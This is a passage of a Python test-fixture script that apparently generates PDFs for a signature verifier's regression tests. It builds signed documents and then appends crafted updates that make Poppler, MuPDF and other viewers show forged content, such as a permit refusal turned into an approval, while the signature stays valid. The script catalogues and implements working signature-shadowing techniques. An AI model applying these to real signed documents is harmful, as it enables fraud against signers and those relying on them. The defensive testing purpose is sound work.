#!/usr/bin/env python3
"""PDFs that kyso judged TOTAL-PASSED while Poppler and MuPDF showed what the signer never
signed, for tests/verify_cli.rs -- the documents written by this script, signed by pyHanko
with a CA made by pyca/cryptography, nothing of kyso's (found by an attacker's reading of the
PDF layer, 2026-12-02; each case's "-signed.pdf" is the signed revision alone):

    python3 pdf_differentials.py DIR [N]

    DIR/startxref-comment.pdf   an update holding a new page content stream that no xref
                                section lists, its startxref offset after a comment line:
                                kyso's lexer read the offset, Poppler and MuPDF read none,
                                rebuilt the table from the object headers and showed
                                "DONG Y" where the signer signed "KHONG"
    DIR/tail-spaces.pdf         the same with a readable startxref, and 1,500 spaces after the
                                last %%EOF (MuPDF looks for startxref in the last 1,024 bytes)
    DIR/unlisted-object.pdf     the same unlisted object, the update read as written
    DIR/escaped-keyword.pdf     the same, its `obj` written `o#62j` (MuPDF decodes it) and its
                                update's one xref entry shorter than 20 bytes (MuPDF then
                                rebuilds the table and shows it)
    DIR/info-names-another.pdf  the new content listed as the /Info object: Poppler finds
                                another object's header there, rebuilds and shows it;
                                short-entry.pdf: the same with a short entry (MuPDF too)
    DIR/pointed-back.pdf        a first update with a forged page content, a second pointing
                                object 4 back at its signed version with an /Info that does
                                not exist (Poppler rebuilds and shows the forged one)
    DIR/header-in-stream.pdf    a forged object's header inside a listed stream's data, the
                                same trigger (Poppler's line-based rebuild finds it)
    DIR/root-nul-key.pdf        a trailer key /Root#00 naming a new catalog (Poppler cuts the
                                name at NUL: a second /Root)
    DIR/shadow-trigger.pdf      the signer's file already holding an unlisted later version of
                                the page content; after signing, an update with only the
                                trigger
    DIR/object-stream-page.pdf  a new object stream, referenced by nothing, holding a forged
                                page, and an entry into an object stream that does not exist
                                (MuPDF rebuilds and loads every object stream's members)
    DIR/higher-generation.pdf   a forged `4 1 obj`, then the signed content again as `4 0 obj`,
                                and the /Info trigger (Poppler keeps the highest generation and
                                draws a blank page)
    DIR/number-past-u32.pdf     a header numbered 4294967300 inside a stream's data (Poppler
                                wraps it onto object 4)
    DIR/free-object-stream.pdf  the signer's file holding, in object stream 6, an older
                                /Contents array naming a forged content (rewritten plainly
                                later), and an unused object stream 11; after signing, an
                                update freeing 11 (MuPDF rebuilds and rolls the array back)
    DIR/object-stream-rollback.pdf
                                the same signed file, then an update with nothing kyso knows
                                as a trigger (a new /Info): any rebuild rolls 9 back to the
                                version the signer's first revision had (INDETERMINATE)
    DIR/signed-twice.pdf, stamp-says-obj.pdf
                                pyHanko signing again, invisibly and with a stamp whose text
                                says "obj": these must pass
    DIR/objstm-type-other-generation.pdf, objstm-real-n.pdf
                                a new object stream holding a forged page, its /Type a
                                reference of another generation, or its /N written 1.0
                                (MuPDF ignores the one, rounds the other)
    DIR/header-after-255-bytes.pdf, trailer-after-255-bytes.pdf
                                255 bytes and then a forged header, or a trailer naming a new
                                catalog, in a stream's data (Poppler reads 255-byte lines)
    DIR/signer-file-signed-number.pdf, signer-file-comment-header.pdf
                                the signer's file holding a forged version under `+4 0 obj`
                                or `4 0 %x⏎obj` (MuPDF reads both), an update after signing
    DIR/nested-string-headers.pdf
                                headers inside a string nested 20,000 deep (each parse read
                                the rest of the file: 100 s)
    DIR/root-in-array.pdf, long-number-trailer.pdf
                                a new object `[0 << /Root F 0 R >>]` naming a forged catalog
                                (MuPDF's repair reads the dictionary), with a trailer whose
                                /Size has 70,000 leading zeros (MuPDF repairs on opening)
    DIR/signer-file-number-past-u32.pdf, signer-file-long-comment.pdf,
    DIR/signer-file-unreadable-trailer.pdf
                                the signer's file holding a forged version under a 256-digit
                                number, under `4 0 %<5,000 bytes>⏎obj`, or a catalog named by a
                                trailer kyso could not read; an update after signing
    DIR/size-past-mupdf.pdf, info-missing.pdf
                                an update whose /Size is past MuPDF's largest object number,
                                or whose /Info does not exist (readers repair on opening)
    DIR/catalog-fallback.pdf    the catalog only in an object stream, a forged one named in a
                                dictionary inside an array (MuPDF picks its catalog before it
                                loads object streams); an update with a new /Info
    DIR/signed-header-in-stream-data.pdf, signed-header-in-string.pdf
                                the signed page content's header inside another object's stream
                                data or a string, a forged version before it; the same update
    DIR/filled-into-object-stream.pdf
                                a form filled before signing into a later object stream,
                                signed twice: passes
    DIR/object-streams-lang-set.pdf, object-streams-annotated.pdf
                                compact's catalog given a /Lang, or its page a Square
                                annotation, by pyHanko before signing, then signed twice:
                                pass (their earlier versions are history, told in a note)
    DIR/filled-plainly.pdf      the same filled by a plain update: INDETERMINATE (a rebuild
                                shows the field unfilled)
    DIR/object-streams-stamped.pdf, object-streams-invisible.pdf
                                a file keeping catalog, pages and font in an object stream,
                                signed by pyHanko three times with stamps, and twice
                                invisibly (its rebuilt reading lacks only signatures): pass
    DIR/orphan-parent.pdf       a text widget whose /Parent field (its value inherited from
                                it) no /Fields array reaches; the update changes that value
    DIR/parent-mismatch.pdf     the same, the widget's /Parent naming a copy of the field the
                                /Fields tree holds
    DIR/flags-big.pdf           an unsigned signature field added after signing, its widget's
                                /F 2^32+2 (Poppler takes it as 0: shown) drawing "DAT" over
                                the page; flags-control.pdf: the same with /F 4
    DIR/rect-five.pdf           the same with /F 4 and a /Rect of five numbers
    DIR/flags-past-int32.pdf    the same with /F 2^31+2 (Poppler reads an integer past 2^31-1
                                as a 64-bit one, and the flags as 0: shown; helper 220)
    DIR/image-appearance.pdf    the same with /F 4, its appearance an 8-bit indexed /Image
                                whose data is spaces and NULs (Ghostscript draws it; kyso read
                                white space and took it for drawing nothing; helper 220)
    DIR/zero-rect.pdf           the same with /F 4 and a /Rect of no area (Ghostscript 10.00
                                draws the appearance at its /BBox's size; helper 224)
    DIR/ap-state-dict-da.pdf    a text field whose /AP /N is a state dictionary and has no
                                /AS (MuPDF draws it from /DA); the update turns /AcroForm
                                /DA white
    DIR/fonts-fields.pdf        N fields (default 1000) and N /DR fonts, every font changed
                                after signing (each change re-read every field: quadratic)

    DIR/name-half-escape.pdf    a page font dictionary `/A#4G 7 0 R /A#234H 8 0 R` (the
                                content uses /A#4G) rewritten `/A#234G 7 0 R /A#4H 8 0 R`:
                                the same to kyso's old reading, "A@" moved to the font that
                                draws 1 as 9 for Poppler ("900 VND")
    DIR/name-past-127.pdf       two font names alike in their first 127 bytes, written in the
                                other order after signing (MuPDF cuts names at 127 bytes: the
                                last one written wins)
    DIR/integer-past-64-bits.pdf
                                a font's /Differences code 2^64 rewritten 2^64 + 49 (the same
                                real to kyso's old reading; code 49 to MuPDF, which wraps)
    DIR/stream-space.pdf, stream-space-comment.pdf, stream-run-in.pdf
                                a page content rewritten after signing as `stream␠…` on one
                                line (Poppler skips the rest of the line: the amount gone),
                                `stream␠%…` (MuPDF takes the byte after the spaces as the end
                                of line: the comment runs and draws "900"), or `streamq…`
                                (no keyword to either: the white cover over "900" is gone);
                                the same data to kyso's old reading
    DIR/real-past-int.pdf       a form's /Matrix offset 2^100 + 5000 (off the page) rewritten
                                2^100: the same f64 to kyso's old reading, 5000 and 0 to MuPDF
                                (a 32-bit integer part that wraps): the form drawn over the page
    DIR/objstm-first-by-reference.pdf, objstm-parms-by-reference.pdf
                                an object stream whose /First, or /DecodeParms, is a reference
                                (kyso took 0, or no predictor; readers resolve it), that object
                                rewritten after signing: the page's /Contents array in it now
                                names an unused "900" stream, or a font's /Differences code
                                in it reads 49 (both readers)
    DIR/linearized-length.pdf   a first object `<< /Linearized 1 /L L >>` followed by a section
                                naming a hidden "900" catalog; white space appended after
                                signing makes the file L bytes long: Poppler takes it for
                                linearized and reads that section, not the later revisions;
                                linearized-negative-header.pdf, linearized-refused-entry.pdf:
                                the same with a first object kyso's parser refuses (`-1 0 obj`,
                                an integer past 64 bits beside /L); linearized-nul-name.pdf,
                                linearized-nul-length.pdf, linearized-long-dictionary.pdf:
                                `/Linearized#00x`, `/L#00` (Poppler cuts names at NUL), the
                                keys after a 2,100-byte string (kyso scanned 2,048 bytes);
                                linearized-comment-dictionary.pdf: a comment `%<<>>` before
                                the first object; linearized-one-digit-escape.pdf: `/L#0G`;
                                linearized-escape-eats-delimiter.pdf: `/V#0>>` before /L;
                                linearized-gt-as-value.pdf: `/X >>` before /L
    DIR/junk-before-header.pdf, blank-lines-before-header.pdf
                                200 bytes before `%PDF-`; after signing, a cross-reference
                                stream section whose dictionary holds, 200 bytes in, a classic
                                section counting from the header (Poppler's offsets): it
                                places object 4 at an unlisted "900" version
    DIR/signature-widget-action.pdf
                                an invisible signature widget added after signing whose /AA
                                /PO SetOCGState turns the signed "100" layer off and a "900"
                                layer on (for viewers that run page-open actions)
    DIR/objstm-partial-row.pdf  the page's height given as object 7; after signing, object 7
                                rewritten in an object stream whose predicted rows end in an
                                incomplete one: kyso read 792, Poppler and MuPDF 7920, and
                                the page grew to show a "900 VND" drawn above it
    DIR/dp-dict-with-filter-array.pdf, dp-array-with-filter-name.pdf, dp-abbreviation.pdf,
        predictor-16.pdf, bpc-32.pdf, bpc-0.pdf, colors-33.pdf, columns-0.pdf,
        columns-past-2-20.pdf, bad-adler-32.pdf, first-inside-index.pdf
                                the same page grown by an object stream whose /DecodeParms,
                                predictor values, Adler-32 or /First readers read otherwise

    DIR/prepared-widget.pdf, prepared-widget-moved.pdf
                                the preparer's own signature widget drawn "APPROVED
                                900,000 VND" in an object stream, blanked (and moved) by a
                                plain update before A signs it; signed again: passes, with a
                                note naming the earlier version a rebuild may show

    DIR/zero-rect-timestamp.pdf a certification allowing no change (DocMDP P=1), then a
                                document time-stamp (pyHanko, its DummyTimeStamper) whose
                                widget has a /Rect of no area and an appearance drawing "DAT"
                                (Ghostscript 10.00 draws it; helper 224)
    DIR/flate-empty-timestamp.pdf
                                the same time-stamp with an empty appearance stored
                                Flate-compressed, as signing libraries write one: passes
    DIR/zero-rect-other-generation.pdf
                                zero-rect.pdf with its appearance named `N 1 R` where the
                                table holds N 0 (Ghostscript ignores generations; helper 225)
    DIR/annotated-zero-rect.pdf a certification allowing annotations (P=3), then a FreeText
                                of no area and no appearance: passes, and is said added
    DIR/empty-field-appearance.pdf
                                pyHanko's invisible empty field for a second signer (/Rect
                                [0 0 0 0], no appearance), signed; after signing, given an
                                appearance over the page (Ghostscript draws it)
    DIR/zero-rect-text-dr.pdf   a text field without an appearance whose /Rect has no area
                                (Ghostscript draws its value from /DA and the /DR font); after
                                signing, that font given /Differences [49 /nine]
    DIR/need-appearances-mk.pdf /NeedAppearances kept in the signed form (pyHanko told not to
                                drop it, as Acrobat and kyso keep it), then an unsigned
                                signature field whose widget has an empty appearance and a
                                white /MK background over the signed text (Poppler draws the
                                widget itself, and the text is gone; helper 226)
    DIR/need-appearances-text.pdf
                                the same form certified allowing annotations (P=3), then a text
                                widget of no field with an empty appearance and a /V: passes,
                                and is said added (Poppler, PDFium and pdf.js show its value)
    DIR/zero-rect-down.pdf      an unsigned signature widget of no area with only a /D
                                appearance (Ghostscript draws it)
    DIR/zero-rect-states-no-as.pdf, zero-rect-string-as.pdf
                                the same with appearance states and no /AS, or a string /AS
                                (PDFium draws /Off, or the state the string names)
    DIR/real-length-appearance.pdf
                                the signed file holding an unused form XObject of /Length 75.0
                                (one space up to its first `endstream`, "DAT" in its 75 bytes),
                                then an unsigned signature widget naming it (MuPDF, PDFium and
                                pdf.js draw "DAT")
    DIR/empty-field-hidden.pdf  the page says "900 VND", an empty signature field's appearance
                                paints "1" over the "9"; after signing, the field's /F turned to
                                Hidden (every reader shows "900 VND"; helper 228);
                                empty-field-hidden-certified.pdf: the same certified at P=1;
                                empty-field-hidden-stamped.pdf: hidden, then given a document
                                time-stamp (pyHanko) in that field (helper 230)
    DIR/info-renamed-certified.pdf
                                certified at P=1, then the trailer's /Info pointed at a new
                                object of another /Title (helper 230)
    DIR/popup-parent-rewritten.pdf
                                an open popup whose /Parent, a Text annotation no page lists,
                                holds its text; after signing, that text rewritten (Ghostscript
                                draws it; helper 228)
    DIR/p3-text-widget-blank.pdf, p3-hidden-open-popup.pdf
                                under P=3, a text widget with an empty appearance and a /V
                                (pdf.js's forms layer shows the value), and a Text annotation
                                whose open popup is Hidden (pdf.js shows it): passes, said added
    DIR/hidden-sig-widget.pdf, noview-sig-widget.pdf
                                an unsigned signature widget drawing over the page added after
                                signing, /F 2 (Hidden) or 32 (NoView): pdf.js's forms layer,
                                PDFium's and Ghostscript's screen output draw them (helper 231);
    DIR/hidden-field-drawn.pdf  an empty signature field, Hidden and blank when signed, given a
                                drawing after it;
    DIR/hidden-timestamp-certified.pdf
                                certified at P=1, then a Hidden signature field drawing over the
                                page added and given a document time-stamp (pyHanko)
    DIR/popup-p-rewritten.pdf   an open popup with no /Parent, whose /P names a dictionary with
                                its text, rewritten after signing (Ghostscript draws it; helper 231)
    DIR/xmp-certified-stamped.pdf, producer-certified-stamped.pdf
                                certified at P=1, then given a document time-stamp by pyHanko,
                                which writes /Info's /Producer (passes; helper 231) and, with XMP
                                metadata, the packet anew, its dates and producer restated
                                (passes); xmp-retitled-certified.pdf: the packet's title changed
                                first (fails); xmptk-certified-stamped.pdf: certified by
                                one pyHanko release, time-stamped by another, which names
                                itself in the packet's x:xmptk (passes; helper 235)
    DIR/xmp-nested-rdf-title.pdf, xmp-literal-rdf-title.pdf
                                certified at P=1 keeping the author's packet, whose title holds
                                an rdf:RDF (in an rdf:li, or as an XML literal) with a
                                description's pdf:Producer, then that producer, the title
                                pdf.js shows, rewritten (fails; helper 235)
    DIR/xmp-dates-past-info.pdf certified at P=1, /Info's title and the packet's differing, the
                                packet older; then its dates moved past /Info's /ModDate, so
                                that Adobe shows its title (fails; helper 235);
                                info-date-past-xmp.pdf: the packet newer, then /Info's /ModDate
                                moved past it (fails)
    DIR/xmp-wrapped-dates.pdf, zoneless-dates.pdf, info-direct-added.pdf
                                the same under an x:xmpmeta of another namespace; with dates
                                made zoneless, newer by the clock, older in UTC; and an /Info
                                written directly into a later trailer of a file that had none
                                (each fails; helper 236)
    DIR/xmp-alias-date.pdf, xmp-attributes-unspaced.pdf, info-producer-lines.pdf,
    DIR/info-stream-to-dict.pdf a packet dated by pdf:ModDate, /Info's /ModDate moved past it; a
                                packet made no XML by two attributes unspaced; /Info's /Producer
                                rewritten over lines; an /Info stream rewritten as a dictionary
                                (each fails; helper 237)
    DIR/info-date-tied.pdf, info-date-added.pdf, info-producer-pronom.pdf
                                /Info's /ModDate set back to the packet's date; a /ModDate
                                given where neither store had a date; /Info's
                                /Producer rewritten to PRONOM's byte signature of PDF/A-1b
                                (each fails but the tie: a tie is /Info's by Adobe's rule;
                                helper 238)
    DIR/dated-alike-stamped.pdf, metadata-day-stamped.pdf
                                a packet in pyHanko's form, its dates alike (or its
                                xmp:MetadataDate a day), certified as it is, then time-stamped by
                                pyHanko (passes; helper 239); xmp-day-passed.pdf: a packet
                                dated by a day, /ModDate moved across it (fails; helper 240)
    DIR/xmp-past-limit-restated.pdf
                                a packet over the 4 MiB kyso compares, certified, its date
                                restated (fails, saying the limit; helper 237)
    DIR/info-producer-dict-certified.pdf
                                certified at P=1, then /Info's /Producer made a dictionary with
                                a /Title (fails; helper 234)
    DIR/popup-p-shared.pdf, popup-parent-shared.pdf
                                the popups of 2,000 pages naming one dictionary of 300,000
                                numbers by /P or /Parent (helper 233: walked once per page)
    DIR/p3-annot-orphan-p.pdf, p2-countersign-orphan-p.pdf, hidden-empty-then-signed.pdf
                                honest updates that failed (helper 233): a Text annotation
                                added under P=3, and a visible pyHanko countersignature under
                                P=2, to a file whose Square names a page no longer in its tree
                                by /P; an empty signature field Hidden when the first
                                signature was made, signed by pyHanko

DIR/root.pem is the anchor to trust.
"""
import datetime as dt
import io
import os
import re
import sys
import time

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID

D = sys.argv[1]
N = int(sys.argv[2]) if len(sys.argv) > 2 else 1000
os.makedirs(D, exist_ok=True)
NOW = dt.datetime.now(dt.timezone.utc)


def cert(name, key, issuer, issuer_key, ca):
    return (x509.CertificateBuilder().subject_name(name).issuer_name(issuer)
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(NOW - dt.timedelta(days=1)).not_valid_after(NOW + dt.timedelta(days=365))
            .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
            .add_extension(x509.KeyUsage(digital_signature=not ca, content_commitment=not ca,
                                         key_encipherment=False, data_encipherment=False,
                                         key_agreement=False, key_cert_sign=ca, crl_sign=ca,
                                         encipher_only=False, decipher_only=False), critical=True)
            .sign(issuer_key, hashes.SHA256()))


rk = rsa.generate_private_key(public_exponent=65537, key_size=2048)
rn = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, 'Differentials Root')])
root = cert(rn, rk, rn, rk, True)
sk = rsa.generate_private_key(public_exponent=65537, key_size=2048)
signer = cert(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, 'Nguyen Van A')]), sk, rn, rk, False)
for name, data in [
    ('root.pem', root.public_bytes(serialization.Encoding.PEM)),
    ('signer.pem', signer.public_bytes(serialization.Encoding.PEM)),
    ('signer.key', sk.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                    serialization.NoEncryption())),
]:
    open(os.path.join(D, name), 'wb').write(data)


def build(objs):
    """A one-revision PDF of these objects (number -> body), object 1 the catalog."""
    out = bytearray(b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
    offs = {}
    for n in sorted(objs):
        offs[n] = len(out)
        out += b'%d 0 obj\n' % n + objs[n] + b'\nendobj\n'
    size = max(objs) + 1
    x = len(out)
    out += b'xref\n0 %d\n0000000000 65535 f \n' % size
    for n in range(1, size):
        out += (b'%010d 00000 n \n' % offs[n]) if n in offs else b'0000000000 00000 f \n'
    out += (b'trailer\n<< /Size %d /Root 1 0 R /ID [<0123456789abcdef0123456789abcdef>'
            b'<0123456789abcdef0123456789abcdef>] >>\nstartxref\n%d\n%%%%EOF\n' % (size, x))
    return bytes(out)


def stream(data, extra=b''):
    return b'<< /Length %d %s>>\nstream\n' % (len(data), extra) + data + b'\nendstream'


def last_xref(pdf):
    return (int(re.findall(rb'startxref\s+(\d+)', pdf)[-1]),
            int(re.findall(rb'/Size (\d+)', pdf)[-1]))


def update(pdf, objs):
    """An incremental update with a classic xref table listing these objects."""
    prev, size = last_xref(pdf)
    out = bytearray(pdf)
    offs = {}
    for n in sorted(objs):
        offs[n] = len(out)
        out += b'%d 0 obj\n' % n + objs[n] + b'\nendobj\n'
    x = len(out)
    out += b'xref\n'
    for n in sorted(offs):
        out += b'%d 1\n%010d 00000 n \n' % (n, offs[n])
    out += b'trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (
        max(size, max(objs) + 1), prev, x)
    return bytes(out)


def sign(pdf):
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers
    from pyhanko.sign.fields import SigSeedSubFilter
    s = signers.SimpleSigner.load(os.path.join(D, 'signer.key'), os.path.join(D, 'signer.pem'),
                                  ca_chain_files=(os.path.join(D, 'root.pem'),))
    out = io.BytesIO()
    signers.PdfSigner(signers.PdfSignatureMetadata(field_name='Sig1', subfilter=SigSeedSubFilter.PADES),
                      signer=s).sign_pdf(IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False), output=out)
    return out.getvalue()


def save(name, signed, final):
    open(os.path.join(D, name + '-signed.pdf'), 'wb').write(signed)
    open(os.path.join(D, name + '.pdf'), 'wb').write(final)


def raw(pdf, n):
    return re.findall(rb'\n%d 0 obj\s*(.*?)\s*endobj' % n, pdf, re.S)[-1]


def with_annot(pg, n):
    """The page dictionary `pg` with annotation `n` added to its /Annots."""
    return (re.sub(rb'/Annots\s*\[(.*?)\]', lambda m: b'/Annots [' + m.group(1) + b' %d 0 R]' % n, pg, flags=re.S)
            if b'/Annots' in pg else pg.rstrip()[:-2] + b' /Annots [%d 0 R] >>' % n)


def with_field(pdf, f):
    """(number, body) of the interactive form of `pdf` with field `f` added to its /Fields."""
    n = int(re.search(rb'/AcroForm\s*(\d+) 0 R', raw(pdf, 1)).group(1))
    return n, re.sub(rb'/Fields\s*\[(.*?)\]', lambda m: b'/Fields [' + m.group(1) + b' %d 0 R]' % f,
                     raw(pdf, n), flags=re.S)


def certify(pdf, perm, keep_xmp=False):
    """`pdf` certified by pyHanko with these DocMDP permissions (pyhanko.sign.fields.MDPPerm);
    `keep_xmp`: its XMP packet left as written, as certifiers other than pyHanko leave it."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers
    from pyhanko.sign.fields import SigSeedSubFilter
    s = signers.SimpleSigner.load(os.path.join(D, 'signer.key'), os.path.join(D, 'signer.pem'),
                                  ca_chain_files=(os.path.join(D, 'root.pem'),))
    out = io.BytesIO()
    meta = signers.PdfSignatureMetadata(field_name='Sig1', subfilter=SigSeedSubFilter.PADES, certify=True,
                                        docmdp_permissions=perm)
    w = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    if keep_xmp:
        w._update_meta = lambda: None  # pyHanko writes the packet anew otherwise
    signers.PdfSigner(meta, signer=s).sign_pdf(w, output=out)
    return out.getvalue()


HELV = b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
page = {
    1: b'<< /Type /Catalog /Pages 2 0 R >>',
    2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
       b'/Resources << /Font << /F1 5 0 R >> >> >>',
    4: stream(b'BT /F1 16 Tf 60 700 Td (Quyet dinh: KHONG cap phep xay dung.) Tj ET'),
    5: HELV,
}

# 1. An unlisted new version of the page's content, and an update read otherwise by readers.
signed = sign(build(page))
prev, size = last_xref(signed)
evil = b'4 0 obj\n' + stream(b'BT /F1 16 Tf 60 700 Td (Quyet dinh: DONG Y cap phep xay dung.) Tj ET') + b'\nendobj\n'


def unlisted(startxref_sep, tail):
    out = bytearray(signed) + evil
    info = len(out)
    out += b'%d 0 obj\n<< /Producer (x) >>\nendobj\n' % size
    x = len(out)
    out += (b'xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root 1 0 R /Info %d 0 R /Prev %d >>\n'
            b'startxref%s%d\n%%%%EOF\n' % (size, info, size + 1, size, prev, startxref_sep, x))
    return bytes(out) + tail


save('startxref-comment', signed, unlisted(b'\n%c\n', b''))
save('tail-spaces', signed, unlisted(b'\n', b' ' * 1500 + b'\n'))
save('unlisted-object', signed, unlisted(b'\n', b''))


def update_raw(header, entry, listed_as, info=True):
    """The forged content under `header`, an xref entry in `entry`'s form, listed as object
    `listed_as` (None: unlisted), beside a listed /Info object (`info`), the trailer's /Info
    naming that object's number either way."""
    out = bytearray(signed)
    offs = {}
    if info:
        offs[size] = len(out)
        out += b'%d 0 obj\n<< /Producer (x) >>\nendobj\n' % size
    at = len(out)
    out += header + evil[evil.index(b'\n'):]
    if listed_as is not None:
        offs[listed_as] = at
    x = len(out)
    out += b'xref\n' + b''.join(b'%d 1\n' % n + entry % offs[n] for n in sorted(offs))
    out += (b'trailer\n<< /Size %d /Root 1 0 R /Info %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n'
            % (max(offs) + 1, size, prev, x))
    return bytes(out)


STD, SHORT = b'%010d 00000 n \n', b'%d 0 n\n'
# The unlisted object's keyword written with a name escape (MuPDF decodes it), its xref entry
# shorter than 20 bytes (MuPDF then rebuilds the table); the forged content listed as the
# /Info object (Poppler rebuilds when the header names another object).
save('escaped-keyword', signed, update_raw(b'4 0 o#62j', SHORT, None))
save('info-names-another', signed, update_raw(b'4 0 obj', STD, size, info=False))
save('short-entry', signed, update_raw(b'4 0 obj', SHORT, size, info=False))


def append(pdf, objs, trailer, entries=None):
    """An update of these objects ((number, body) in order) and extra xref `entries` (number ->
    offset, or None for a free entry), its trailer's keys `trailer`."""
    out = bytearray(pdf)
    offs = {}
    for num, body in objs:
        offs[num] = len(out)
        out += b'%d 0 obj\n' % num + body + b'\nendobj\n'
    offs.update(entries or {})
    x = len(out)
    out += b'xref\n'
    for num in sorted(offs):
        o = offs[num]
        out += b'%d 1\n' % num + (b'0000000000 00001 f \n' if o is None else b'%010d 00000 n \n' % o)
    out += b'trailer\n<< ' + trailer + b' /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (last_xref(pdf)[0], x)
    return bytes(out)


FORGED = stream(b'BT /F1 16 Tf 60 700 Td (Quyet dinh: DONG Y cap phep xay dung.) Tj ET')
signed_at = int(re.search(rb'\n4 0 obj', signed).start()) + 1
# A first update puts a forged page content after the signature; a second points object 4
# back at its signed version and names an /Info that does not exist: kyso read the signed
# version, Poppler could not fetch /Info, rebuilt the table and showed the forged one.
first = append(signed, [(4, FORGED)], b'/Size %d /Root 1 0 R' % size)
save('pointed-back', signed, append(first, [], b'/Size %d /Root 1 0 R /Info 999 0 R' % size,
                                    {4: signed_at}))
# A header inside a listed stream's data, and the same Poppler trigger: Poppler's line-based
# rebuild finds it.
hidden = b'padding\n4 0 obj\n' + FORGED[:FORGED.rindex(b'\nendstream')]  # the outer endstream ends both
save('header-in-stream', signed, append(signed, [(size, stream(hidden))],
                                         b'/Size %d /Root 1 0 R /Info 999 0 R' % (size + 1)))
# Headers Poppler's line-based rebuild reads and no lexer does, in a new stream's data after
# the signature, with the same trigger (found by an attacker's reading, 2026-12-03): a NUL
# after the number (Poppler ends the line there and goes on to the next), the number split
# across the 255-byte pieces Poppler reads a long line in, and a header after `endobj` on a
# line; `objx` is `obj` to Poppler's strncmp.
for name, hidden in [('poppler-nul-header', b'padding\n4\x00junk\n0 objx\n'),
                     ('poppler-split-header', b'padding\n' + b' ' * 254 + b'40 objx\n'),
                     ('poppler-endobj-header', b'padding\nx endobj 4 0 objx\n')]:
    body = hidden + FORGED[:FORGED.rindex(b'\nendstream')]  # the outer endstream ends both
    save(name, signed, append(signed, [(size, stream(body))],
                              b'/Size %d /Root 1 0 R /Info 999 0 R' % (size + 1)))
# A trailer key `/Root#00`: Poppler cuts names at NUL and took it for /Root, a new catalog.
catalog = [(size, b'<< /Type /Catalog /Pages %d 0 R >>' % (size + 1)),
           (size + 1, b'<< /Type /Pages /Kids [%d 0 R] /Count 1 >>' % (size + 2)),
           (size + 2, b'<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R '
                      b'/Resources << /Font << /F1 5 0 R >> >> >>' % (size + 1, size + 3)),
           (size + 3, FORGED)]
save('root-nul-key', signed, append(signed, catalog, b'/Size %d /Root 1 0 R /Root#00 %d 0 R'
                                    % (size + 4, size)))
# The document handed to the signer holds, after the page content its table lists, an
# unlisted later version; after signing, an update with only a trigger (an /Info that does not
# exist) makes Poppler rebuild and show it.
def shadowed(hidden):
    """The one-page document with `hidden` (bytes no section lists) before its xref section."""
    shadow = bytearray(build(page))
    at = shadow.index(b'xref\n')
    shadow[at:at] = hidden
    shadow = bytes(shadow)
    return shadow[:shadow.rindex(b'startxref')] + b'startxref\n%d\n%%%%EOF\n' % shadow.index(b'xref\n0 ')


shadow_signed = sign(shadowed(b'4 0 obj\n' + FORGED + b'\nendobj\n'))
save('shadow-trigger', shadow_signed, append(shadow_signed, [], b'/Size 6 /Root 1 0 R /Info 999 0 R'))


def append_xref_stream(pdf, objs, entries, trailer, num):
    """An update of these objects ((number, body)) whose cross-reference section is a stream
    (object `num`, §7.5.8), with extra `entries` (number -> (type, field 2, field 3))."""
    import zlib
    out = bytearray(pdf)
    ent = {}
    for n, body in objs:
        ent[n] = (1, len(out), 0)
        out += b'%d 0 obj\n' % n + body + b'\nendobj\n'
    ent.update(entries)
    x = len(out)
    ent[num] = (1, x, 0)
    rows = b''.join(t.to_bytes(1, 'big') + a.to_bytes(4, 'big') + b.to_bytes(2, 'big')
                    for t, a, b in (ent[n] for n in sorted(ent)))
    index = b' '.join(b'%d 1' % n for n in sorted(ent))
    data = zlib.compress(rows)
    out += (b'%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%s] %s /Prev %d /Length %d '
            b'/Filter /FlateDecode >>\nstream\n' % (num, max(ent) + 1, index, trailer, last_xref(pdf)[0], len(data))
            + data + b'\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n' % x)
    return bytes(out)


def object_stream(members):
    """An object stream (§7.5.7) of these (number, object) members, compressed."""
    import zlib
    head, body = b'', b''
    for n, o in members:
        head += b'%d %d ' % (n, len(body))
        body += o + b'\n'
    data = zlib.compress(head + body)
    return (b'<< /Type /ObjStm /N %d /First %d /Length %d /Filter /FlateDecode >>\nstream\n'
            % (len(members), len(head), len(data)) + data + b'\nendstream')


# A new object stream, referenced by nothing, holding a forged page, and an entry into an object
# stream that does not exist: MuPDF rebuilds the table and takes the stream's page over the
# signed one.
forged_page = (b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R '
               b'/Resources << /Font << /F1 5 0 R >> >> >>' % (size + 1))
save('object-stream-page', signed, append_xref_stream(
    signed, [(size, object_stream([(3, forged_page)])), (size + 1, FORGED)],
    {size + 2: (2, 99, 0)}, b'/Root 1 0 R', size + 3))
# A forged `4 1 obj` listed first, the signed content listed again as `4 0 obj` after it, and
# the /Info trigger: Poppler keeps the highest generation, then cannot fetch `4 0 R`: the page
# is blank.
genned = bytearray(signed)
g_at = len(genned)
genned += b'4 1 obj\n' + FORGED + b'\nendobj\n'
x = len(genned)
genned += (b'xref\n4 1\n%010d 00001 n \ntrailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n'
           b'%d\n%%%%EOF\n' % (g_at, size, prev, x))
original = raw(signed, 4)
